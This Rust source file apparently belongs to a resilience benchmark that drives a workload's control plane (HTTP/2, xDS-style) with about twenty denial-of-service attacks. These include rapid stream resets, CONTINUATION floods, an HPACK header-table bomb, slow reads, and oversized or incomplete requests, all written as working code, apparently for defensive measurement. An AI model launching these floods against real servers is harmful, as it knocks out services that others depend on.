//! Requests of each attack. All of them come from one workload that may connect.

use std::time::{Duration, Instant};

use clap::ValueEnum as _;
use serde::Serialize;

use super::raw::{AttackEnvironment, AttackerCost, ConnectionSetup, Request, Script, pause};
use crate::control::{
    AUTHORITY,
    connection::{Connection, END_HEADERS, HEADERS, PING, RESET, SETTINGS, WINDOW_UPDATE, head, id_of},
    message::{Form, Kind, Response, names},
};

/// Family of all virtual hosts of the mesh.
const FAMILY: &str = "80";
/// Maximum window.
const ALL: u32 = (1 << 31) - 1;
/// Number of streams per connection in attacks with many streams.
const STREAMS: usize = 16;
/// Bytes of requests that are sent together.
const BATCH: usize = 8 << 10;
/// Number of names in a large request.
const MANY: usize = 20_000;
/// Length of a request that never completes, in bytes.
const INCOMPLETE_LENGTH: usize = 4 << 20;
/// CONTINUATION frame type.
const CONTINUATION: u8 = 9;
/// CANCEL error code (RFC 9113, section 7).
const CANCEL: [u8; 4] = 8u32.to_be_bytes();

/// Attack of a workload on its control plane.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum, Serialize)]
#[serde(rename_all = "kebab-case")]
pub(crate) enum Attack {
    /// No attack: the latency of an honest sidecar alone.
    None,
    /// Subscribes to a family of virtual hosts, reads nothing, and acknowledges with guessed nonces and the same
    /// names.
    Guess,
    /// Like `guess`, on 16 streams of each connection.
    GuessMany,
    /// Like `guess`, but unsubscribes from the family before each acknowledgement.
    GuessToggle,
    /// Subscribes to a family and unsubscribes in turn, without reading.
    Toggle,
    /// Like `toggle`, but reads.
    ToggleRead,
    /// Subscribes to the same family repeatedly, reads and acknowledges.
    Again,
    /// Subscribes to the whole mesh by name on 16 streams of each connection, and reads nothing.
    Unread,
    /// Like `unread`, but reads one byte of each stream per second.
    Slow,
    /// Subscribes to ever more names that do not exist.
    Names,
    /// Claims to have ever more names that do not exist, of all types.
    Versions,
    /// Sends requests of two million empty names.
    Empty,
    /// Sends requests of 4 MiB that lack the last byte, on 16 streams of each connection.
    Incomplete,
    /// Rejects each response with a reason of 256 KiB, and requests it again.
    Refuse,
    /// Opens streams and resets them at once.
    Reset,
    /// Sends PING frames.
    Ping,
    /// Sends SETTINGS frames.
    Settings,
    /// Sends WINDOW_UPDATE frames of one byte.
    Window,
    /// Sends CONTINUATION frames without end.
    Continuation,
    /// Sends header blocks that refer to one long field thousands of times.
    Headers,
    /// Connects, sends a first request and disconnects.
    Connect,
}

impl Attack {
    pub(super) fn all() -> Vec<Self> {
        Self::value_variants().to_vec()
    }

    /// Runs the attack until `over` returns true.
    pub(super) fn run(
        self,
        environment: AttackEnvironment,
        over: impl Fn() -> bool,
    ) -> anyhow::Result<AttackerCost> {
        let setup = |calls, window| ConnectionSetup { calls, window };
        let node = environment.node.as_slice();
        let frames = |kind: u8, flags: u8, stream: u32, content: &'static [u8]| {
            let frame = move |connection: &mut Connection| connection.frame(kind, flags, stream, content);
            Repeat { node, count: 1_000, opened: false, send: frame }
        };
        match self {
            Self::None => {
                while !over() {
                    pause();
                }
                Ok(AttackerCost::default())
            }
            Self::Guess | Self::GuessMany | Self::GuessToggle => {
                let calls = if self == Self::GuessMany { STREAMS } else { 1 };
                let toggles = self == Self::GuessToggle;
                environment.run(setup(calls, 0), || Guess { node, calls, toggles, nonce: 0 }, over)
            }
            Self::Toggle => environment.run(setup(1, 0), || Toggle { node }, over),
            Self::ToggleRead => environment.run(setup(1, ALL), || Toggle { node }, over),
            Self::Again => {
                environment.run(setup(1, ALL), || RequestLoop { node, begun: false, reason: None }, over)
            }
            Self::Refuse => {
                let reason = "x".repeat(256 << 10);
                environment.run(
                    setup(1, ALL),
                    || RequestLoop { node, begun: false, reason: Some(&reason) },
                    over,
                )
            }
            Self::Unread | Self::Slow => {
                let script = || Unread { environment: &environment, slow: self == Self::Slow, last: None };
                environment.run(setup(STREAMS, 0), script, over)
            }
            Self::Names => environment.run(setup(4, ALL), || Names { node, next: 0 }, over),
            Self::Versions => environment.run(setup(STREAMS, 0), || Versions { node, next: 0 }, over),
            Self::Empty => environment.run(setup(4, ALL), || Empty { node, begun: false }, over),
            Self::Incomplete => environment.run(setup(STREAMS, ALL), || Incomplete { next: 0 }, over),
            Self::Reset => environment.run(setup(0, ALL), || Reset { next: 1 }, over),
            Self::Ping => environment.run(setup(1, ALL), || frames(PING, 0, 0, &[7; 8]), over),
            Self::Settings => {
                environment.run(setup(1, ALL), || frames(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]), over)
            }
            Self::Window => environment.run(setup(1, 0), || frames(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]), over),
            Self::Continuation => environment.run(setup(0, ALL), || Continuation { begun: false }, over),
            Self::Headers => environment.run(setup(0, ALL), || Bomb { next: 1 }, over),
            Self::Connect => environment.run(setup(1, ALL), || Connect { node, begun: false }, over),
        }
    }
}

impl std::fmt::Display for Attack {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.to_possible_value().as_ref().map_or("", |value| value.get_name()))
    }
}

struct Guess<'a> {
    node: &'a [u8],
    calls: usize,
    /// The client unsubscribes from the family before it subscribes again.
    toggles: bool,
    nonce: u64,
}

impl Script for Guess<'_> {
    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
        // HTTP/2 limits the number of short frames in a row, so many requests are sent together.
        let names = names([FAMILY]);
        let mut batch = Vec::new();
        while batch.len() < BATCH {
            let text = self.nonce.to_string();
            let nonce = if self.nonce == 0 { b"" } else { text.as_bytes() };
            let node = std::mem::take(&mut self.node);
            if self.toggles && self.nonce > 0 {
                batch.extend(Request { unsubscribe: &[FAMILY], ..Request::default() }.message());
            }
            batch.extend(Request { node, names: &names, nonce, ..Request::default() }.message());
            self.nonce += 1;
        }
        (0..self.calls).for_each(|call| connection.send(call, &batch));
    }
}

struct Toggle<'a> {
    node: &'a [u8],
}

impl Script for Toggle<'_> {
    fn proceed(&mut self, connection: &mut Connection, responses: Vec<(usize, Response)>) {
        let node = std::mem::take(&mut self.node);
        let mut batch = Vec::new();
        if !node.is_empty() {
            batch.extend(Request { node, ..Request::default() }.message());
        }
        for (_, response) in responses {
            batch.extend(Request { nonce: &response.nonce, ..Request::default() }.message());
        }
        while batch.len() < BATCH {
            batch.extend(Request { names: &names([FAMILY]), ..Request::default() }.message());
            batch.extend(Request { unsubscribe: &[FAMILY], ..Request::default() }.message());
        }
        connection.send(0, &batch);
    }
}

/// Sends the next request when the last one is answered.
struct RequestLoop<'a> {
    node: &'a [u8],
    begun: bool,
    /// Reason with which responses are rejected, if they are.
    reason: Option<&'a str>,
}

impl Script for RequestLoop<'_> {
    fn proceed(&mut self, connection: &mut Connection, responses: Vec<(usize, Response)>) {
        let names = names([FAMILY]);
        if !std::mem::replace(&mut self.begun, true) {
            connection.send(0, &Request { node: self.node, names: &names, ..Request::default() }.message());
        }
        for (call, response) in responses {
            let answer =
                Request { nonce: &response.nonce, names: &names, error: self.reason, ..Request::default() };
            connection.send(call, &answer.message());
        }
    }
}

struct Unread<'a> {
    environment: &'a AttackEnvironment,
    /// Reads one byte per second.
    slow: bool,
    last: Option<Instant>,
}

impl Script for Unread<'_> {
    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
        if self.last.is_none() {
            for call in 0..STREAMS {
                let mut node = self.environment.node.as_slice();
                for kind in [Kind::Endpoint, Kind::VirtualHost, Kind::Route, Kind::Cluster, Kind::Listener] {
                    let names: &[u8] = match kind {
                        Kind::Endpoint => &self.environment.endpoint_names,
                        Kind::Route | Kind::VirtualHost => &self.environment.route_names,
                        Kind::Cluster | Kind::Listener | Kind::Secret => b"",
                    };
                    let request = Request { node, kind: Some(kind), names, ..Request::default() };
                    connection.send(call, &request.message());
                    node = b"";
                }
            }
        }
        if self.last.is_none_or(|last| last.elapsed() > Duration::from_secs(1)) {
            self.last = Some(Instant::now());
            for call in (0..STREAMS).filter(|_| self.slow) {
                connection.frame(WINDOW_UPDATE, 0, id_of(call), &1u32.to_be_bytes());
            }
        }
    }
}

struct Names<'a> {
    node: &'a [u8],
    next: usize,
}

impl Script for Names<'_> {
    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
        let kind = Kind::ALL[self.next % Kind::ALL.len()];
        for call in 0..4 {
            let all: Vec<String> = (0..MANY).map(|number| format!("no/{}-{number}", self.next)).collect();
            let names = names(all.iter().map(String::as_str));
            let node = if self.next == 0 { self.node } else { b"" };
            connection.send(
                call,
                &Request { node, kind: Some(kind), names: &names, ..Request::default() }.message(),
            );
        }
        self.next += 1;
    }
}

struct Versions<'a> {
    node: &'a [u8],
    next: usize,
}

impl Script for Versions<'_> {
    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
        let Some(kind) = Kind::ALL.get(self.next) else { return };
        let have: Vec<String> = (0..MANY).map(|number| format!("no/{number}")).collect();
        let node = if self.next == 0 { self.node } else { b"" };
        let names = names(["*"]);
        let request = Request { node, kind: Some(*kind), names: &names, have: &have, ..Request::default() };
        let message = request.message();
        (0..STREAMS).for_each(|call| connection.send(call, &message));
        self.next += 1;
    }
}

struct Empty<'a> {
    node: &'a [u8],
    begun: bool,
}

impl Script for Empty<'_> {
    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
        let node = if std::mem::replace(&mut self.begun, true) { b"" } else { self.node };
        let names = [3 << 3 | 2, 0].repeat(2_000_000);
        let message = Request { node, names: &names, ..Request::default() }.message();
        (0..4).for_each(|call| connection.send(call, &message));
    }
}

struct Incomplete {
    next: usize,
}

impl Script for Incomplete {
    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
        if self.next < STREAMS {
            let mut message = vec![0; 5 + INCOMPLETE_LENGTH - 1];
            message[1..5].copy_from_slice(&(INCOMPLETE_LENGTH as u32).to_be_bytes());
            connection.send(self.next, &message);
            self.next += 1;
        }
    }
}

/// Sends the same frame many times.
struct Repeat<'a, F> {
    node: &'a [u8],
    count: usize,
    opened: bool,
    send: F,
}

impl<F: Fn(&mut Connection)> Script for Repeat<'_, F> {
    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
        if !std::mem::replace(&mut self.opened, true) {
            let request = Request { node: self.node, names: &names([FAMILY]), ..Request::default() };
            connection.send(0, &request.message());
        }
        (0..self.count).for_each(|_| (self.send)(connection));
    }
}

struct Reset {
    next: u32,
}

impl Script for Reset {
    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
        let fields = head(Form::Delta, AUTHORITY);
        for _ in 0..10 {
            connection.frame(HEADERS, END_HEADERS, self.next, &fields);
            connection.frame(RESET, 0, self.next, &CANCEL);
            self.next += 2;
        }
    }
}

struct Continuation {
    begun: bool,
}

impl Script for Continuation {
    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
        if !std::mem::replace(&mut self.begun, true) {
            connection.frame(HEADERS, 0, 1, &head(Form::Delta, AUTHORITY));
        }
        // A literal field with a name and a value of one byte each, without indexing.
        let fields = [0, 1, b'a', 1, b'b'].repeat(100);
        (0..10).for_each(|_| connection.frame(CONTINUATION, 0, 1, &fields));
    }
}

struct Bomb {
    next: u32,
}

impl Script for Bomb {
    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
        let mut block = head(Form::Delta, AUTHORITY);
        // A field of 3,000 bytes that enters the table, followed by its index (RFC 7541, sections 6.2.1 and 6.1).
        block.extend_from_slice(&[0x40, 1, b'a', 0x7f, 0xb9, 0x16]);
        block.extend([b'b'; 3_000]);
        block.extend([0xbe; 12_000]);
        connection.frame(HEADERS, END_HEADERS, self.next, &block);
        self.next += 2;
    }
}

struct Connect<'a> {
    node: &'a [u8],
    begun: bool,
}

impl Script for Connect<'_> {
    fn proceed(&mut self, connection: &mut Connection, responses: Vec<(usize, Response)>) {
        if !std::mem::replace(&mut self.begun, true) {
            connection.send(
                0,
                &Request { node: self.node, names: &names([FAMILY]), ..Request::default() }.message(),
            );
        }
        if !responses.is_empty() {
            // A protocol violation, so that the server closes the connection.
            connection.frame(WINDOW_UPDATE, 0, 0, &[0; 4]);
        }
    }
}
